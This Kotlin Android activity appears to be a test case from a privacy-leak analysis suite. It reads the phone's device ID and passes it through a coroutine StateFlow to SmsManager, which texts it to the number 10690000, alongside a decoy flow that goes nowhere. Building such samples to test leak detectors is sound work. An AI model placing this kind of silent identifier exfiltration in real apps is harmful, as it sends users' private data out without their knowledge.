package cn.privlens.suite.state_flow

import android.app.Activity
import android.content.Context
import android.os.Bundle
import android.telephony.SmsManager
import android.telephony.TelephonyManager
import kotlinx.coroutines.*
import kotlinx.coroutines.flow.*

class Main : Activity() {
    private val ids = MutableStateFlow("")
    private val words = MutableStateFlow("")
    override fun onCreate(state: Bundle?) {
        super.onCreate(state)
        CoroutineScope(Dispatchers.Default).launch {
            ids.collect { SmsManager.getDefault().sendTextMessage("10690000", null, it, null, null) }
        }
        ids.value = (getSystemService(Context.TELEPHONY_SERVICE) as TelephonyManager).deviceId
        words.value = "字"
    }
}
